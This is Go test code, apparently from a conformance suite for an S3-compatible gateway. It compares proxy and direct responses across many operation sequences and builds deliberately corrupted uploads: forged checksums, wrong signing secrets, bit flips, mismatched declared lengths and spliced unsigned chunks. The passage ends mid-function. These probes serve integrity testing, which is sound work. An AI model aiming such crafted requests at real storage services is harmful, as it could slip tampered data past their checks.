		{Name: "PutObject small, wrong secret, own checksum", BadSig: true, Req: func(map[string]string) *gw.Req {
			return NewReq("PUT", gw.ObjPath(c18B, "k1"), "", H("x-amz-meta-color", "Red", "x-amz-checksum-crc32", gw.Checksum("crc32", []byte("forged"))), []byte("forged"))
		}},
		{Name: "PutObject small, wrong checksum", Req: func(map[string]string) *gw.Req {
			return NewReq("PUT", gw.ObjPath(c18B, "k1"), "", H("x-amz-meta-color", "Green", "x-amz-checksum-sha256", gw.Checksum("sha256", []byte("another body"))), []byte("mismatch"))
		}},
		{Name: "DeleteObject, wrong secret", BadSig: true, Req: func(map[string]string) *gw.Req { return NewReq("DELETE", gw.ObjPath(c18B, "k1"), "", nil, nil) }},
		{Name: "PutObject 70000", Req: func(map[string]string) *gw.Req {
			return NewReq("PUT", gw.ObjPath(c18B, "dir/k2"), "", H("x-amz-meta-a", "1", "x-amz-meta-b", "two words"), big)
		}},
		{Name: "PutObject metadata with runs of blanks", Req: func(map[string]string) *gw.Req {
			return NewReq("PUT", gw.ObjPath(c18B, "k1"), "", H("x-amz-meta-a", "annual  report   2024", "x-amz-meta-b", "two words"), []byte("blanks"))
		}},
		{Name: "CreateBucket BucketOwnerPreferred", Req: func(map[string]string) *gw.Req {
			return NewReq("PUT", "/"+c18B, "", H("x-amz-object-ownership", "BucketOwnerPreferred"), nil)
		}},
		{Name: "CreateBucket of the other account's bucket", Req: func(map[string]string) *gw.Req { return NewReq("PUT", "/pxforeign", "", nil, nil) }},
		{Name: "CreateBucket with object lock", Req: func(map[string]string) *gw.Req {
			return NewReq("PUT", "/"+c18B, "", H("x-amz-bucket-object-lock-enabled", "true"), nil)
		}},
		{Name: "PutObject with legal hold", Req: func(map[string]string) *gw.Req {
			return NewReq("PUT", gw.ObjPath(c18B, "k1"), "", H("x-amz-object-lock-legal-hold", "ON"), []byte("held"))
		}},
		{Name: "PutObject aws-chunked with signed chunks", Stream: true, Req: func(map[string]string) *gw.Req {
			return NewReq("PUT", gw.ObjPath(c18B, "k1"), "", H("x-amz-meta-color", "Chunked"), []byte("streamed in three chunks"))
		}},
		{Name: "PutObject declaring fewer decoded bytes than it delivers", Req: func(map[string]string) *gw.Req {
			body := []byte("fifty-six bytes are delivered but only ten are declared.")
			return NewReq("PUT", gw.ObjPath(c18B, "k1"), "", H("x-amz-decoded-content-length", "10", "x-amz-checksum-crc32", gw.Checksum("crc32", body[:10])), body)
		}},
		{Name: "PutObject with tagging header", Req: func(map[string]string) *gw.Req {
			return NewReq("PUT", gw.ObjPath(c18B, "k3"), "", H("x-amz-tagging", "t1=v1&t2=v2"), []byte("tagged"))
		}},
		{Name: "CopyObject COPY", Req: func(map[string]string) *gw.Req {
			return NewReq("PUT", gw.ObjPath(c18B, "copy"), "", H("x-amz-copy-source", c18B+"/k1"), nil)
		}},
		{Name: "CopyObject REPLACE", Req: func(map[string]string) *gw.Req {
			return NewReq("PUT", gw.ObjPath(c18B, "copy"), "", H("x-amz-copy-source", c18B+"/k1", "x-amz-metadata-directive", "REPLACE", "x-amz-meta-new", "n", "Content-Type", "text/replaced"), nil)
		}},
		{Name: "PutObject key with + and %", Req: func(map[string]string) *gw.Req {
			return NewReq("PUT", gw.ObjPath(c18B, "a+b %c"), "", nil, []byte("plus-percent"))
		}},
		{Name: "CopyObject from key with + and %", Req: func(map[string]string) *gw.Req {
			return NewReq("PUT", gw.ObjPath(c18B, "copy2"), "", H("x-amz-copy-source", c18B+"/"+gw.URIEncode("a+b %c", false)), nil)
		}},
		{Name: "DeleteObject", Req: func(map[string]string) *gw.Req { return NewReq("DELETE", gw.ObjPath(c18B, "k1"), "", nil, nil) }},
		{Name: "DeleteObjects", Req: func(map[string]string) *gw.Req {
			return NewReq("POST", "/"+c18B, "delete", nil, []byte("<Delete><Object><Key>k1</Key></Object><Object><Key>nope</Key></Object></Delete>"))
		}},
		{Name: "PutObjectTagging", Req: func(map[string]string) *gw.Req {
			return NewReq("PUT", gw.ObjPath(c18B, "k1"), "tagging", nil, []byte(tag))
		}},
		{Name: "DeleteObjectTagging", Req: func(map[string]string) *gw.Req { return NewReq("DELETE", gw.ObjPath(c18B, "k1"), "tagging", nil, nil) }},
		{Name: "PutObjectTagging empty tag set", Req: func(map[string]string) *gw.Req {
			return NewReq("PUT", gw.ObjPath(c18B, "k1"), "tagging", nil, []byte("<Tagging><TagSet></TagSet></Tagging>"))
		}},
		{Name: "PutBucketVersioning Enabled", Req: func(map[string]string) *gw.Req {
			return NewReq("PUT", "/"+c18B, "versioning", nil, []byte("<VersioningConfiguration><Status>Enabled</Status></VersioningConfiguration>"))
		}},
		{Name: "DeleteObject versionId=null", Req: func(map[string]string) *gw.Req {
			return NewReq("DELETE", gw.ObjPath(c18B, "k1"), gw.Q("versionId", "null"), nil, nil)
		}},
		{Name: "PutBucketTagging", Req: func(map[string]string) *gw.Req { return NewReq("PUT", "/"+c18B, "tagging", nil, []byte(tag)) }},
		{Name: "DeleteBucketTagging", Req: func(map[string]string) *gw.Req { return NewReq("DELETE", "/"+c18B, "tagging", nil, nil) }},
		{Name: "PutBucketPolicy", Req: func(map[string]string) *gw.Req { return NewReq("PUT", "/"+c18B, "policy", nil, []byte(pol)) }},
		{Name: "DeleteBucketPolicy", Req: func(map[string]string) *gw.Req { return NewReq("DELETE", "/"+c18B, "policy", nil, nil) }},
		{Name: "CreateMultipartUpload", Req: func(map[string]string) *gw.Req {
			return NewReq("POST", gw.ObjPath(c18B, "mp"), "uploads", H("x-amz-meta-m", "mp", "Content-Type", "text/mp"), nil)
		}, Post: func(st map[string]string, resp *gw.Resp) {
			if resp.OK() {
				st["upload"] = xmlFieldS(resp.Body, "UploadId")
			}
		}},
		{Name: "UploadPart", Req: func(st map[string]string) *gw.Req {
			return NewReq("PUT", gw.ObjPath(c18B, "mp"), gw.Q("uploadId", orDash(st["upload"]), "partNumber", "1"), nil, []byte("part-one-data"))
		}, Post: func(st map[string]string, resp *gw.Resp) {
			if resp.OK() {
				st["etag"] = resp.Header.Get("ETag")
			}
		}},
		{Name: "CompleteMultipartUpload", Req: func(st map[string]string) *gw.Req {
			return NewReq("POST", gw.ObjPath(c18B, "mp"), gw.Q("uploadId", orDash(st["upload"])), nil, []byte("<CompleteMultipartUpload><Part><PartNumber>1</PartNumber><ETag>"+st["etag"]+"</ETag></Part></CompleteMultipartUpload>"))
		}},
		{Name: "CompleteMultipartUpload stating object size 0", Req: func(st map[string]string) *gw.Req {
			return NewReq("POST", gw.ObjPath(c18B, "mp"), gw.Q("uploadId", orDash(st["upload"])), H("x-amz-mp-object-size", "0"), []byte("<CompleteMultipartUpload><Part><PartNumber>1</PartNumber><ETag>"+st["etag"]+"</ETag></Part></CompleteMultipartUpload>"))
		}},
		{Name: "AbortMultipartUpload", Req: func(st map[string]string) *gw.Req {
			return NewReq("DELETE", gw.ObjPath(c18B, "mp"), gw.Q("uploadId", orDash(st["upload"])), nil, nil)
		}},
	}
	if thorough {
		ops = append(ops,
			c18Op{Name: "PutBucketAcl", Req: func(map[string]string) *gw.Req {
				return NewReq("PUT", "/"+c18B, "acl", H("x-amz-grant-read", "usr2"), nil)
			}},
			c18Op{Name: "PutBucketAcl public-read-write", Req: func(map[string]string) *gw.Req {
				return NewReq("PUT", "/"+c18B, "acl", H("x-amz-acl", "public-read-write"), nil)
			}},
			c18Op{Name: "PutBucketOwnershipControls", Req: func(map[string]string) *gw.Req {
				return NewReq("PUT", "/"+c18B, "ownershipControls", nil, []byte("<OwnershipControls><Rule><ObjectOwnership>BucketOwnerPreferred</ObjectOwnership></Rule></OwnershipControls>"))
			}},
			c18Op{Name: "UploadPartCopy", Req: func(st map[string]string) *gw.Req {
				return NewReq("PUT", gw.ObjPath(c18B, "mp"), gw.Q("uploadId", orDash(st["upload"]), "partNumber", "2"), H("x-amz-copy-source", c18B+"/k1"), nil)
			}},
		)
	}
	return ops
}

func orDash(s string) string {
	if s == "" {
		return "no-upload-yet"
	}
	return s
}

// c18Observers: read requests issued after every step on both sides.
func c18Observers(st map[string]string) []*gw.Req {
	return []*gw.Req{
		NewReq("GET", "/", "", nil, nil),
		NewReq("HEAD", "/"+c18B, "", nil, nil),
		NewReq("GET", gw.ObjPath(c18B, "k1"), "", nil, nil),
		NewReq("HEAD", gw.ObjPath(c18B, "k1"), "", nil, nil),
		NewReq("GET", gw.ObjPath(c18B, "k1"), "", H("Range", "bytes=0-0"), nil),
		NewReq("GET", gw.ObjPath(c18B, "dir/k2"), "", H("Range", "bytes=100-65600"), nil),
		NewReq("GET", gw.ObjPath(c18B, "copy"), "", nil, nil),
		NewReq("GET", gw.ObjPath(c18B, "mp"), "", nil, nil),
		NewReq("GET", gw.ObjPath(c18B, "k3"), "tagging", nil, nil),
		NewReq("GET", gw.ObjPath(c18B, "k1"), "tagging", nil, nil),
		NewReq("GET", "/"+c18B, "", nil, nil),
		NewReq("GET", "/"+c18B, gw.Q("list-type", "2", "delimiter", "/"), nil, nil),
		NewReq("GET", "/"+c18B, gw.Q("list-type", "2", "max-keys", "1"), nil, nil),
		NewReq("GET", "/"+c18B, gw.Q("list-type", "2", "max-keys", "0"), nil, nil),
		NewReq("GET", "/"+c18B, gw.Q("max-keys", "0"), nil, nil),
		NewReq("GET", gw.ObjPath(c18B, "copy2"), "", nil, nil),
		NewReq("GET", "/"+c18B, gw.Q("prefix", "dir/"), nil, nil),
		NewReq("GET", "/"+c18B, "uploads", nil, nil),
		NewReq("GET", gw.ObjPath(c18B, "mp"), gw.Q("uploadId", orDash(st["upload"])), nil, nil),
		NewReq("GET", "/"+c18B, gw.Q("uploads", "", "max-uploads", "0"), nil, nil),
		NewReq("GET", gw.ObjPath(c18B, "mp"), gw.Q("uploadId", orDash(st["upload"]), "max-parts", "0"), nil, nil),
		NewReq("GET", "/"+c18B, "tagging", nil, nil),
		NewReq("GET", "/"+c18B, "policy", nil, nil),
		NewReq("GET", "/"+c18B, "acl", nil, nil),
		NewReq("GET", "/"+c18B, "versioning", nil, nil),
		NewReq("GET", "/"+c18B, "ownershipControls", nil, nil),
		NewReq("GET", "/"+c18B, "versions", nil, nil),
		NewReq("GET", gw.ObjPath(c18B, "k1"), gw.Q("versionId", "null"), nil, nil),
		NewReq("HEAD", gw.ObjPath(c18B, "k1"), gw.Q("versionId", "null"), nil, nil),
		NewReq("GET", gw.ObjPath(c18B, "k1"), "attributes", H("x-amz-object-attributes", "ETag,ObjectSize"), nil),
		// every listing again from a client-chosen position (markers are passed through field by field)
		NewReq("GET", "/"+c18B, gw.Q("uploads", "", "key-marker", "a"), nil, nil),
		NewReq("GET", "/"+c18B, gw.Q("uploads", "", "key-marker", "mp"), nil, nil),
		// upload ids are random on each side: the id markers are fixed strings that sort before / behind every id
		NewReq("GET", "/"+c18B, gw.Q("uploads", "", "key-marker", "mp", "upload-id-marker", "0"), nil, nil),
		NewReq("GET", "/"+c18B, gw.Q("uploads", "", "key-marker", "mp", "upload-id-marker", "zzzz"), nil, nil),
		NewReq("GET", "/"+c18B, gw.Q("uploads", "", "prefix", "m", "delimiter", "/"), nil, nil),
		NewReq("GET", gw.ObjPath(c18B, "mp"), gw.Q("uploadId", orDash(st["upload"]), "part-number-marker", "1"), nil, nil),
		NewReq("GET", "/"+c18B, gw.Q("marker", "k1"), nil, nil),
		NewReq("GET", "/"+c18B, gw.Q("list-type", "2", "start-after", "k1"), nil, nil),
		NewReq("GET", "/"+c18B, gw.Q("versions", "", "key-marker", "dir/k2"), nil, nil),
		NewReq("GET", "/"+c18B, gw.Q("versions", "", "prefix", "k", "max-keys", "1"), nil, nil),
	}
}

var c18CmpHeaders = []string{"Content-Type", "Content-Length", "Content-Range", "Etag", "Cache-Control", "Content-Disposition", "Content-Encoding", "Content-Language", "X-Amz-Meta-Color", "X-Amz-Meta-A", "X-Amz-Meta-B", "X-Amz-Meta-M", "X-Amz-Meta-New", "X-Amz-Tagging-Count", "Accept-Ranges"}

// canonical form of a response: status, error code, selected headers, body with volatile parts masked
func c18Canon(resp *gw.Resp, st map[string]string) string {
	if resp.Err != nil {
		return "ERR " + resp.Err.Error()
	}
	var b strings.Builder
	fmt.Fprintf(&b, "%d %s\n", resp.Status, resp.ErrCode())
	for _, h := range c18CmpHeaders {
		if resp.Status >= 400 && (h == "Content-Length" || h == "Content-Type") {
			continue // error documents differ in wording
		}
		if h == "Content-Length" && strings.Contains(resp.Header.Get("Content-Type"), "xml") {
			continue // XML documents are compared by their (masked) body
		}
		if v := resp.Header.Get(h); v != "" {
			fmt.Fprintf(&b, "%s: %s\n", h, v)
		}
	}
	body := string(resp.Body)
	if resp.Status >= 400 {
		body = "" // error documents differ in message / resource wording; the code is compared above
	}
	for _, tagn := range []string{"LastModified", "Initiated", "UploadId", "RequestId", "HostId", "DisplayName", "CreationDate", "NextUploadIdMarker", "UploadIdMarker", "NextVersionIdMarker", "VersionIdMarker"} {
		body = maskTag(body, tagn)
	}
	if up := st["upload"]; up != "" {
		body = strings.ReplaceAll(body, up, "<upload>")
	}
	body = maskVersionIds(body)
	body = sortTags(body)
	if strings.Contains(resp.Header.Get("Content-Type"), "xml") {
		// an element that is present but empty says the same as an absent one
		for {
			n := c18EmptyElem.ReplaceAllString(body, "")
			if n == body {
				break
			}
			body = n
		}
	}
	if len(body) > 4096 {
		body = fmt.Sprintf("len=%d sha=%s", len(body), hashS([]byte(body)))
	}
	b.WriteString(body)
	return b.String()
}

// sortTags orders the <Tag> elements of a tagging document: a tag set is unordered.
func sortTags(s string) string {
	i := strings.Index(s, "<TagSet>")
	j := strings.Index(s, "</TagSet>")
	if i < 0 || j < i {
		return s
	}
	inner := s[i+len("<TagSet>") : j]
	parts := strings.Split(inner, "</Tag>")
	var tags []string
	for _, p := range parts {
		if strings.TrimSpace(p) != "" {
			tags = append(tags, p+"</Tag>")
		}
	}
	sort.Strings(tags)
	return s[:i+len("<TagSet>")] + strings.Join(tags, "") + s[j:]
}

func maskTag(s, name string) string {
	open, cl := "<"+name+">", "</"+name+">"
	for {
		i := strings.Index(s, open)
		if i < 0 {
			return s
		}
		j := strings.Index(s[i:], cl)
		if j < 0 {
			return s
		}
		s = s[:i] + "<" + name + "/>" + s[i+j+len(cl):]
	}
}

// run executes the program on one side; returns the canonical transcript (per step: op response + observers).
func c18Run(do func(r *gw.Req) *gw.Resp, ops []c18Op, prog []int, cred gw.Creds) []string {
	st := map[string]string{}
	var out []string
	if cred.Access != gw.RootAccess {
		// another account's bucket exists beside the caller's: the caller's ListBuckets must not show it
		fb := NewReq("PUT", "/pxforeign", "", nil, nil)
		gw.Sign(fb, gw.Root, gw.SignOpts{})
		if resp := do(fb); !resp.OK() {
			ck.Fatal("c18: foreign bucket: %s", resp)
		}
	}
	for _, oi := range prog {
		op := ops[oi]
		req := op.Req(st)
		if op.Stream {
			payload := req.Body
			req.Body = nil
			req.Set("x-amz-decoded-content-length", fmt.Sprint(len(payload)))
			req.Set("Content-Encoding", "aws-chunked")
			sg := gw.Sign(req, cred, gw.SignOpts{PayloadHash: gw.StreamSigned})
			req.Body, _ = gw.EncodeSigned(sg, gw.SplitChunks(payload, []int{5, 1}), "")
		} else if op.BadSig {
			gw.Sign(req, gw.Creds{Access: cred.Access, Secret: "not-the-secret-of-this-account"}, gw.SignOpts{})
		} else {
			gw.Sign(req, cred, gw.SignOpts{NoSignHeaders: []string{"range"}})
		}
		resp := do(req)
		if op.Post != nil {
			op.Post(st, resp)
		}
		out = append(out, op.Name+" => "+c18Canon(resp, st))
		for _, ob := range c18Observers(st) {
			gw.Sign(ob, cred, gw.SignOpts{NoSignHeaders: []string{"range"}})
			r := do(ob)
			line := ob.String()
			if up := st["upload"]; up != "" {
				line = strings.ReplaceAll(line, up, "<upload>")
			}
			c := c18Canon(r, st)
			if cred.Access != gw.RootAccess && strings.Contains(c, "<ListBucketResult") {
				// object owners in listings are the endpoint's identities: the proxy's credential by design
				c = maskOwnerIDs(c)
			}
			out = append(out, "  "+line+" => "+c)
		}
	}
	return out
}

func C18(r *ck.Run) {
	depth := 2
	if r.Thorough() {
		depth = 3
	}
	r.Rule(fmt.Sprintf("every program of length <= %d over 38 (42 thorough) bucket, object, tagging, policy, listing and multipart operations (four of them signed with a wrong secret, one with a checksum that is not the body's, one completion that states object size 0) is executed twice from an empty store: through a gateway whose backend is s3proxy pointed at an endpoint process (a posix versitygw on loopback TCP), and against that endpoint directly; after every step 40 read requests (ListBuckets, every listing also from a client-chosen position: key / upload-id / part-number / version markers, start-after, GET whole / ranges, HEAD, attributes, tagging, listings v1/v2 with prefix / delimiter / max-keys, uploads, parts, bucket tagging / policy / ACL / versioning) are issued on both sides and every response (status, error code, content headers, user metadata, ETag, body with timestamps and ids masked) must be equal; callers: root and a userplus account that owns the bucket; distinct = (caller, program)", depth))
	r.Assume("the 'other S3 endpoint' is versitygw itself (posix backend) in a child process; error documents are compared by status and code only")
	ops := c18Ops(r.Thorough())
	var progs [][]int
	var gen func(cur []int)
	gen = func(cur []int) {
		if len(cur) > 0 {
			progs = append(progs, append([]int{}, cur...))
		}
		if len(cur) == depth {
			return
		}
		for i := range ops {
			// programs start by creating the bucket (everything else is uniformly NoSuchBucket), except the length-1 probes
			if len(cur) == 0 && depth > 1 && ops[i].Name != "CreateBucket" && ops[i].Name != "CreateBucket BucketOwnerPreferred" && len(cur)+1 < depth {
				if ops[i].Name != "PutObject small+meta" {
					continue
				}
			}
			if r.Thorough() && len(cur) == 2 && (ops[cur[1]].Name == "DeleteBucket") {
				continue
			}
			gen(append(cur, i))
		}
	}
	gen(nil)
	// quick: CreateBucket + every op + every op
	if !r.Thorough() {
		progs = nil
		for i := range ops {
			progs = append(progs, []int{i})
		}
		cb := 0
		for i := range ops {
			progs = append(progs, []int{cb, i})
		}
		for i := range ops {
			for j := range ops {
				if ops[i].Name == "DeleteBucket" || ops[i].Name == "CreateBucket" {
					continue
				}
				progs = append(progs, []int{cb, i, j})
			}
		}
	}
	// longer, hand-picked histories on top of the enumerated ones: a null version, versioning switched on, a newer version
	byName := func(names ...string) []int {
		var p []int
		for _, n := range names {
			found := false
			for i := range ops {
				if ops[i].Name == n {
					p = append(p, i)
					found = true
				}
			}
			if !found {
				ck.Fatal("c18: no operation %q", n)
			}
		}
		return p
	}
	progs = append(progs,
		byName("CreateBucket", "PutObject small+meta", "PutBucketVersioning Enabled", "PutObject empty", "DeleteObject versionId=null"),
		byName("CreateBucket", "PutObject small+meta", "PutBucketVersioning Enabled", "PutObject empty", "DeleteObject", "DeleteObject versionId=null"),
		byName("CreateBucket", "PutObject small+meta", "PutObjectTagging", "PutObjectTagging empty tag set", "PutObjectTagging"),
		byName("CreateBucket", "PutBucketVersioning Enabled", "PutObject small+meta", "PutObject empty", "DeleteObject", "PutObject small+meta"),
		byName("CreateBucket", "CreateMultipartUpload", "UploadPart", "CompleteMultipartUpload stating object size 0", "CompleteMultipartUpload"),
		byName("CreateBucket with object lock", "PutObject with legal hold", "DeleteObject", "DeleteObject versionId=null"),
		byName("CreateBucket", "PutObject small+meta", "PutObject small, wrong secret, own checksum", "PutObject small, wrong checksum"),
	)
	r.Extra("programs", len(progs))
	r.Sharded(16, func() {
		e := newC18Env()
		defer e.Close()
		for pi, prog := range progs {
			if !r.Mine(pi) {
				continue
			}
			for _, cred := range []gw.Creds{gw.Root, cUp} {
				if cred.Access != gw.RootAccess && pi%3 != 0 && !r.Thorough() {
					continue
				}
				e.reset()
				via := c18Run(e.P.Do, ops, prog, cred)
				e.reset()
				dir := c18Run(e.direct, ops, prog, cred)
				r.Add("evaluations", int64(len(via)))
				r.Distinct(fmt.Sprintf("%s|%v", cred.Access, prog))
				var names []string
				for _, oi := range prog {
					names = append(names, ops[oi].Name)
				}
				divergedOp := false
				same := true
				for i := range via {
					if i < len(dir) && via[i] != dir[i] {
						same = false
						if strings.HasPrefix(via[i], "  ") && divergedOp {
							continue
						}
						if !strings.HasPrefix(via[i], "  ") {
							if divergedOp {
								continue // everything after the first divergent operation is a consequence
							}
							divergedOp = true
						}
						// classify by the request line that differs
						line := strings.SplitN(strings.TrimSpace(via[i]), " => ", 2)[0]
						line = strings.ReplaceAll(line, "uploadId="+uploadIn(via[i]), "uploadId=<upload>")
						for _, what := range c18DiffKinds(via[i], dir[i]) {
							r.Violation(ck.JoinSig(reqClass(line), what), map[string]any{"caller": cred.Access, "program": names, "step": i, "via_proxy": via[i], "direct": dir[i]})
						}
					}
				}
				r.Outcome(fmt.Sprintf("same=%v", same))
			}
		}
	})
	sort.Strings(nil)
	r.Sample(map[string]any{"program": []string{"CreateBucket", "PutObject small+meta", "CopyObject REPLACE"}, "observers": 20})
}

func uploadIn(s string) string {
	i := strings.Index(s, "uploadId=")
	if i < 0 {
		return "\x00"
	}
	rest := s[i+len("uploadId="):]
	j := strings.IndexAny(rest, " &")
	if j < 0 {
		return rest
	}
	return rest[:j]
}

func reqClass(line string) string {
	f := strings.Fields(line)
	if len(f) >= 2 && (f[0] == "GET" || f[0] == "HEAD" || f[0] == "PUT" || f[0] == "DELETE" || f[0] == "POST") {
		p := f[1]
		if i := strings.Index(p, "uploadId="); i >= 0 {
			j := strings.IndexAny(p[i:], "&")
			if j < 0 {
				p = p[:i] + "uploadId=<id>"
			} else {
				p = p[:i] + "uploadId=<id>" + p[i+j:]
			}
		}
		return f[0] + " " + p
	}
	return line
}

// c18DiffKinds lists every component in which two canonical responses differ: the status line, each
// compared header, and the body (named by the element enclosing the first difference).
func c18DiffKinds(a, b string) []string {
	parse := func(x string) (status string, hdr map[string]string, body string) {
		lines := strings.Split(x, "\n")
		if sp := strings.SplitN(lines[0], " => ", 2); len(sp) == 2 {
			status = sp[1]
		}
		hdr = map[string]string{}
		k := 1
	scan:
		for ; k < len(lines); k++ {
			for _, h := range c18CmpHeaders {
				if strings.HasPrefix(lines[k], h+": ") {
					hdr[h] = strings.TrimPrefix(lines[k], h+": ")
					continue scan
				}
			}
			break
		}
		body = strings.Join(lines[k:], "\n")
		return
	}
	sa, ha, ba := parse(a)
	sb, hb, bb := parse(b)
	if sa != sb {
		return []string{"status/code differs: proxy[" + sa + "] direct[" + sb + "]"}
	}
	var out []string
	for _, h := range c18CmpHeaders {
		if ha[h] != hb[h] {
			out = append(out, "header differs: "+h+" proxy["+ck.Short(ha[h], 40)+"] direct["+ck.Short(hb[h], 40)+"]")
		}
	}
	if ba != bb {
		out = append(out, "body differs at "+firstDiffElem(ba, bb))
	}
	if len(out) == 0 {
		out = append(out, "differs")
	}
	return out
}

var _ = bytes.Equal

func init() { Registry["C18DBG"] = c18Dbg }

// c18Dbg prints raw proxy responses for a few requests (development aid).
func c18Dbg(r *ck.Run) {
	e := newC18Env()
	defer e.Close()
	do := func(req *gw.Req) {
		gw.Sign(req, gw.Root, gw.SignOpts{})
		resp := e.P.Do(req)
		fmt.Printf("%s => %d\n%v\n%s\n\n", req.String(), resp.Status, resp.Header, resp.Body)
	}
	do(NewReq("PUT", "/"+c18B, "", nil, nil))
	do(NewReq("PUT", gw.ObjPath(c18B, "k1"), "", nil, []byte("x")))
	do(NewReq("GET", gw.ObjPath(c18B, "k1"), "attributes", H("x-amz-object-attributes", "ETag,ObjectSize"), nil))
	do(NewReq("PUT", gw.ObjPath(c18B, "k0"), "", nil, nil))
	os.Exit(0)
}

func maskOwnerIDs(s string) string {
	for {
		i := strings.Index(s, "<Owner><ID>")
		if i < 0 {
			return s
		}
		j := strings.Index(s[i:], "</ID>")
		if j < 0 {
			return s
		}
		s = s[:i] + "<Owner><id/>" + s[i+j+len("</ID>"):]
	}
}

// firstDiffElem names the XML element enclosing the first differing byte of two documents.
func firstDiffElem(a, b string) string {
	n := 0
	for n < len(a) && n < len(b) && a[n] == b[n] {
		n++
	}
	i := strings.LastIndex(a[:n], "<")
	if i < 0 {
		return "?"
	}
	j := strings.IndexAny(a[i:], "> ")
	if j < 0 {
		return a[i:]
	}
	return a[i : i+j+1]
}

// maskVersionIds replaces generated version ids (not "null") in a document.
var c18EmptyElem = regexp.MustCompile(`<([A-Za-z0-9]+)></([A-Za-z0-9]+)>|<[A-Za-z0-9]+/>`)

func maskVersionIds(s string) string {
	out := ""
	for {
		i := strings.Index(s, "<VersionId>")
		if i < 0 {
			return out + s
		}
		j := strings.Index(s[i:], "</VersionId>")
		if j < 0 {
			return out + s
		}
		v := s[i+len("<VersionId>") : i+j]
		if v != "null" && v != "" {
			v = "id"
		}
		out += s[:i] + "<VersionId>" + v + "</VersionId>"
		s = s[i+j+len("</VersionId>"):]
	}
}
