package checks

import (
	"bytes"
	"fmt"
	"strings"

	"verif/ck"
	"verif/gw"
)

func init() { Registry["C06"] = C06 }

// c06Upload is one upload request in a given mode with optional corruption hooks.
type c06Case struct {
	Op      string // put | part
	Mode    string // signed unsigned stream-signed stream-signed-trailer stream-unsigned-trailer presigned
	Algo    string // checksum algorithm for trailers / checksum headers ("" none)
	MD5     bool   // send Content-MD5
	CsumHdr bool   // send x-amz-checksum-<algo> header (non-trailer modes)
	Corrupt string // "" = none
	Arg     int    // corruption argument (offset, chunk index, ...)
	Big     bool   // 9000-byte payload in chunks 4000/1/4999 (larger than what the HTTP server reads ahead with the header)
}

func (c c06Case) String() string {
	big := ""
	if c.Big {
		big = "/9000-bytes"
	}
	return fmt.Sprintf("%s/%s/algo=%s/md5=%v/csumhdr=%v/%s(%d)%s", c.Op, c.Mode, c.Algo, c.MD5, c.CsumHdr, c.Corrupt, c.Arg, big)
}

// build renders the request; corrupted reports whether the corruption applied (some do not apply to a mode).
func (c c06Case) build(w *World, key string, payload []byte, sizes []int) (*gw.Req, bool) {
	path := gw.ObjPath(w.Bucket, key)
	query := ""
	if c.Op == "part" {
		path = gw.ObjPath(w.Bucket, w.MpKey)
		query = gw.Q("uploadId", w.UploadID, "partNumber", "4")
	}
	if c.Op == "complete" {
		// completion of the fixture's upload (created without a checksum algorithm) that asserts an object checksum
		r := NewReq("POST", gw.ObjPath(w.Bucket, w.MpKey), gw.Q("uploadId", w.UploadID), nil, []byte("<CompleteMultipartUpload><Part><PartNumber>1</PartNumber><ETag>"+w.PartETag+"</ETag></Part></CompleteMultipartUpload>"))
		r.Set("x-amz-checksum-"+c.Algo, gw.Checksum(c.Algo, []byte("not what the parts add up to")))
		gw.Sign(r, gw.Root, gw.SignOpts{})
		return r, c.Corrupt == "wrong-object-checksum-on-completion"
	}
	r := &gw.Req{Method: "PUT", Path: path, Query: query}
	body := append([]byte{}, payload...)
	applied := c.Corrupt == ""
	if c.MD5 {
		v := gw.MD5B64(payload)
		if c.Corrupt == "wrong-content-md5" {
			v = gw.MD5B64(append([]byte("x"), payload...))
			applied = true
		}
		if c.Corrupt == "malformed-content-md5" {
			v = "not-base64!!"
			applied = true
		}
		if c.Corrupt == "content-md5-letter-case-flipped" {
			if f, ok := flipLetterCase(v); ok {
				v, applied = f, true
			}
		}
		r.Set("Content-MD5", v)
	}
	if c.CsumHdr && c.Algo != "" {
		v := gw.Checksum(c.Algo, payload)
		if c.Corrupt == "wrong-checksum-header" {
			v = gw.Checksum(c.Algo, append([]byte("x"), payload...))
			applied = true
		}
		if c.Corrupt == "checksum-header-letter-case-flipped" {
			if f, ok := flipLetterCase(v); ok {
				v, applied = f, true
			}
		}
		r.Set("x-amz-checksum-"+c.Algo, v)
	}
	streaming := strings.HasPrefix(c.Mode, "stream-")
	declared := len(payload)
	if c.Corrupt == "truncate-at-data-end" || c.Corrupt == "flip-then-truncate-at-data-end" {
		declared = 0
		for i, ch := range gw.SplitChunks(payload, sizes) {
			if i <= c.Arg {
				declared += len(ch)
			}
		}
	}
	switch c.Corrupt {
	case "spliced-chunk-with-empty-signature":
		// the declared length covers the spliced bytes (whoever can replay the signed header can declare what it likes
		// in a request of its own; here the header is simply signed for the longer length)
		declared += 3
	case "declared-length-plus-1":
		declared++
		applied = streaming
	case "declared-length-minus-1":
		declared--
		applied = streaming && len(payload) > 0
	case "declared-length-double":
		declared = 2*len(payload) + 7
		applied = streaming
	}
	if streaming {
		r.Set("x-amz-decoded-content-length", fmt.Sprint(declared))
		r.Set("Content-Encoding", "aws-chunked")
	}
	flip := func(b []byte, off int) []byte {
		o := append([]byte{}, b...)
		o[off] ^= 0x04
		return o
	}
	switch c.Mode {
	case "signed":
		r.Body = body
		switch c.Corrupt {
		case "decoded-length-0-beside-copy-source-slash":
			// a declared (decoded) length of 0 beside a body, on a request shape the upload detection and the handlers
			// classify differently
			if c.Op == "put" {
				r.Set("X-Amz-Decoded-Content-Length", "0")
				r.Set("X-Amz-Copy-Source", "/")
				applied = len(body) > 0
			}
		case "decoded-length-0-beside-acl-parameter":
			if c.Op == "part" {
				r.Set("X-Amz-Decoded-Content-Length", "0")
				r.Query += "&acl"
				applied = len(body) > 0
			}
		}
		gw.Sign(r, gw.Root, gw.SignOpts{})
		if c.Corrupt == "wrong-content-sha256" {
			// a well-formed but wrong payload hash, correctly signed
			r.Del("Authorization")
			gw.Sign(r, gw.Root, gw.SignOpts{PayloadHash: gw.SHA256Hex(append([]byte("x"), payload...))})
			applied = true
		}
		if c.Corrupt == "bit-flip" && c.Arg < len(body) {
			r.Body = flip(body, c.Arg)
			applied = true
		}
	case "unsigned":
		r.Body = body
		gw.Sign(r, gw.Root, gw.SignOpts{PayloadHash: gw.Unsigned})
		if c.Corrupt == "bit-flip" && c.Arg < len(body) && (c.MD5 || c.CsumHdr) {
			r.Body = flip(body, c.Arg)
			applied = true
		}
	case "presigned":
		r.Body = body
		// the checksum header stays out of SignedHeaders (SDK presigners hoist or omit it)
		gw.Presign(r, gw.Root, gw.SignOpts{NoSignHeaders: []string{"x-amz-checksum-" + c.Algo}}, 600)
		if c.Corrupt == "bit-flip" && c.Arg < len(body) && (c.MD5 || c.CsumHdr) {
